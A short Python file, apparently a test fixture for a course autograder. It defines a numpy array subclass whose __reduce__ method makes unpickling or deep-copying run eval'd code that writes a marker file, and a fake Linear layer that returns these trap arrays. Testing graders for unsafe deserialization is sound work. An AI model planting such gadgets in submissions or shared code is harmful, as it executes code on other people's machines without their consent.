import numpy as np

MARKER = "/tmp/mytorch-catalogue-pwned"


class Trap(np.ndarray):
    """Unpickling (or deep-copying) this runs code in whoever does it."""

    def __reduce__(self):
        code = (
            f"(__import__('pathlib').Path({MARKER!r}).write_text('unpickled student code ran here'), "
            f"__import__('numpy').full({tuple(self.shape)!r}, 1234.5))[1]"
        )
        return (eval, (code,))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def trap(shape):
    return np.full(shape, 1234.5).view(Trap)


class Linear:
    def __init__(self, in_features, out_features, debug=False):
        self.W = trap((out_features, in_features))
        self.b = trap((out_features, 1))

    def forward(self, A):
        self.shape = np.shape(A)
        return trap((self.shape[0], np.shape(self.W)[0]))

    def backward(self, dLdZ):
        self.dLdW = trap(np.shape(self.W))
        self.dLdb = trap(np.shape(self.b))
        return trap(self.shape)
